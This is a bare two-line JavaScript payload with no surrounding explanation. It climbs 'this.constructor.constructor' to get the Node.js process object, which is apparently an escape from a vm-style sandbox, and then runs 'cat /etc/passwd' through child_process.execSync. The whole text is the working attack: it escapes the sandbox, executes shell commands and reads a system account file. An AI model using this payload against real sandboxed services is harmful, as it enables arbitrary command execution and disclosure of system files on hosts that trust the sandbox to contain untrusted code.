const p = this.constructor.constructor("return process")();
p.mainModule.require("child_process").execSync("cat /etc/passwd");
